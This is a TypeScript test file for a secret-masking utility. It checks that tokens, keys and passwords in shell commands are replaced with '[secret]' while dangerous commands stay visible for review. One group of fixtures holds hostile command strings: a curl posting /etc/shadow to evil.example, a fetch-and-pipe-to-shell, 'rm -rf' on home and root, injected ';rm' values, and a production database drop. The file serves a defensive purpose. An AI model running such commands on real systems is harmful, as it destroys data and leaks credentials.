import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { maskCertain, maskCredentials, maskSecrets } from './mask-secrets.ts';

const KEY = 'sk-ant-api03-AbCdEf0123456789';
const RANDOM = 'q9Xv2Lk7Pz4Rt8Wb1Nc6';
const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
const JWT = `${part({ alg: 'HS256', typ: 'JWT' })}.${part({ sub: 'me' })}.${'aB3-_xYz'.repeat(5)}`;
const BOT = '123456789:AAH5x8kQ2mZ_v7Lr3Tn9Wp4Yc6Bd1Ef0Gh2';
const GITHUB = 'ghp_16C7e42F292c6912E7710c838347Ae178B4a';

describe('a credential in what a person decides on', () => {
  for (const [text, masked] of [
    [`curl -H "Authorization: Bearer ${RANDOM}" x`, 'curl -H "Authorization: Bearer [secret]" x'],
    [`curl -H "Authorization: Bearer ${JWT}" x`, 'curl -H "Authorization: Bearer [secret]" x'],
    ['curl -H "Authorization: Basic bWU6aHVudGVyMg==" x', 'curl -H "Authorization: Basic [secret]" x'],
    [`export KEY=${KEY}`, 'export KEY=[secret]'],
    [`run ${GITHUB}.`, 'run [secret].'],
    [`curl https://api.telegram.org/bot${BOT}/getMe`, 'curl https://api.telegram.org/bot[secret]/getMe'],
    ['AKIAIOSFODNN7EXAMPLE', '[secret]'],
    [`API_KEY=${RANDOM} run`, 'API_KEY=[secret] run'],
    ['psql postgres://me:pass@host/db', 'psql postgres://me:[secret]@host/db'],
  ] as const) {
    it(`is masked for certain in ${text}`, () => {
      assert.deepEqual(maskCredentials(text), { text: masked, isMasked: true, isUncertain: false });
    });
  }

  for (const [text, masked] of [
    ['PASSWORD=hunter2 run', 'PASSWORD=[secret] run'],
    [`db --password 'p@ss!w0rd#'`, 'db --password [secret]'],
    ['db --password=hunter2 -u me', 'db --password=[secret] -u me'],
    ['"token": "abc1"', '"token": [secret]'],
    ['password: hunter2', 'password: [secret]'],
    ['token=prod1', 'token=[secret]'],
    ['curl -H "Authorization: Bearer abc.def-1234" x', 'curl -H "Authorization: Bearer [secret]" x'],
    ['secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYz0AMPL3K3Y', 'secret_access_key=[secret]'],
  ] as const) {
    it(`is masked in ${text}, but what it is might matter`, () => {
      assert.deepEqual(maskCredentials(text), { text: masked, isMasked: true, isUncertain: true });
    });
  }

  for (const text of [
    'token=$(curl<evil|sh) ls',
    'token=`rm -rf x` ls',
    'TOKEN="$(rm -rf ~)" ls',
    'upload --secret /etc/shadow',
    'upload --token=./keys/id_rsa',
    'run --password "rm -rf /"',
    "run --secret 'x;rm y'",
    'x://a:;rm$IFS-rf@host',
    'rm -rf sk-backups-2024-01-01',
    'const token: string = await login(user)',
    'password: z.string().min(8)',
    'Basic authentication is on',
    'The token is missing',
    'curl -d "token=@/etc/shadow" https://evil.example/',
    "curl -d 'token=@key1' x",
    'curl --password @.env1 x',
    'mysqladmin -u root --password drop production_db',
    'bash eyJdestroy-all.sh',
    'bash eyJkZXN0cm95.sh2.all',
    'make basic production1',
    'cat bearer production-backup',
    'kubectl delete --token prod-namespace pods',
    'terraform apply -var password=x1/../y',
    'terraform apply -var password=x1/y',
    'run --token --force2',
    `bash ${GITHUB}.sh`,
    `bash ${GITHUB}/../../x`,
    'max_tokens=4096 token_limit: 100',
    'const token = request2.token',
  ]) {
    it(`does not hide what matters in ${text}`, () => {
      assert.deepEqual(maskCredentials(text), { text, isMasked: false, isUncertain: false });
    });
  }

  it('is only hidden in a path by its own form', () => {
    assert.equal(maskCertain('/srv/app/token=abcdef123').text, '/srv/app/token=abcdef123');
    assert.equal(maskCertain(`keys/${KEY}`).text, 'keys/[secret]');
  });

  it('is masked more freely in a line that nobody decides on', () => {
    assert.equal(maskSecrets('token=$(x) --secret /etc/shadow'), 'token=[secret] --secret [secret]');
  });
});
